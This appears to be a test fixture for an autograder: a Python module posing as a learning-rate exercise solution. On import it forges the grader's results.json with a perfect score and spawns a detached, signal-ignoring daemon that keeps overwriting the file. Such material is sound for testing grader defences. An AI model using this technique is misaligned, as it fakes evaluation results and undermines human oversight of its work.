"""Hostile: forges the grader's results file.

The test writes the path of results.json into RESULTS.  At import the
module writes a fake 100/100 results file there, then leaves a daemon
(double fork, new session, its own descriptors closed, SIGTERM and SIGHUP
ignored) that rewrites it every 0.1 s for SECONDS seconds, long after the
grader would have written its own.  The daemon's name (comm) is MARKER, so
a test can look for it.  The exercise itself is correct.
"""

import ctypes
import json
import os
import signal
import time

RESULTS = "@RESULTS@"
MARKER = "@MARKER@"
SECONDS = 4.0

FAKE = {
    "score": 100.0,
    "output": "FORGED by the submission",
    "forged": True,
    "tests": [{"name": f"{m}: forged", "score": p, "max_score": p, "output": "FORGED",
               "tags": [m], "status": "passed"}
              for m, p in (("derivatives", 25), ("gradient_descent", 30),
                           ("weight_updates", 15), ("neuron", 30))],
}


def _forge():
    try:
        tmp = f"{RESULTS}.{os.getpid()}.forged"
        with open(tmp, "w") as fh:
            json.dump(FAKE, fh)
        os.replace(tmp, RESULTS)
        return True
    except OSError:
        pass
    try:
        with open(RESULTS, "w") as fh:
            json.dump(FAKE, fh)
        return True
    except OSError:
        return False


def _daemon():
    if os.fork():
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.closerange(3, 65536)
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)
        t0 = time.time()
        while time.time() < t0 + SECONDS:
            _forge()
            time.sleep(0.1)
    finally:
        os._exit(0)


print("forged at import:", _forge())
_daemon()


def update_weights(weights, gradients, learning_rate):
    return [float(w - learning_rate * g) for w, g in zip(weights, gradients)]


def sweep_learning_rates(weights, gradients, learning_rates):
    return {rate: update_weights(weights, gradients, rate) for rate in learning_rates}
